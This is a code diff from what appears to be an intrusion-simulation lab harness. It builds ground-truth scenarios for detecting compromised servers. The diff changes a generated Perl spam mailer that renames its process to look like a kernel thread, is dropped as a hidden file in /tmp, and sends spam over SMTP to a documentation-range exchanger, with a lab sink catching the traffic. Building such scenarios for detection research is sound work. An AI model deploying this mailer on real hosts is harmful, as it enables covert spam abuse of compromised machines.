@@ -5,14 +5,18 @@ import type { Stage, Story, Truth } from '../play/stage.ts';
 import { after, everydayWork, play } from '../play/timeline.ts';
 import { docroot } from '../programs/apache.ts';
 
+/** Mail exchangers elsewhere, on the cable that leads there. */
+const cable = '2001:db8:ee::';
+const exchanger = `${cable}25`;
+
 /** A mailer that calls itself a kernel thread, delivers straight to the exchanger of its victims, and waits with the last connection open. */
 function mailer(disguise: string, recipients: readonly string[], sender: string): string {
   return `#!/usr/bin/perl
-use IO::Socket::INET;
+use IO::Socket::IP;
 $0 = '${disguise}';
 my @to = qw(${recipients.join(' ')});
 while (1) {
-    my $s = IO::Socket::INET->new(PeerAddr => '203.0.113.25', PeerPort => 25, Timeout => 10) or sleep(1), next;
+    my $s = IO::Socket::IP->new(PeerHost => '${exchanger}', PeerPort => 25, Timeout => 10) or sleep(1), next;
     my $say = sub { print $s "$_[0]\\r\\n" if defined $_[0]; my $a; do { $a = <$s> } while (defined $a && $a =~ /^\\d{3}-/); };
     $say->(undef); $say->('EHLO mail.${sender.split('@')[1]}');
     for my $to (splice(@to, 0, 10)) { $say->("MAIL FROM:<${sender.replace('@', '\\@')}>"); $say->("RCPT TO:<$to>"); $say->('DATA'); $say->("Subject: hello\\r\\n\\r\\nhttp://x.example\\r\\n."); }
@@ -36,6 +40,7 @@ async function playDirectToMx({ box, random, span }: Stage): Promise<Truth> {
   });
   const path = `/tmp/.${random.token(5)}`;
   await box.write({ path, owner: `${guilty}:${guilty}`, mode: '0755', text: mailer(disguise, victims, `x@${random.token(6)}.example`) });
+  await box.runElsewhere(['/opt/node/bin/node', '/opt/lab/sink.mjs', '::'], cable);
   await play(box, [
     ...everydayWork(box, span),
     {
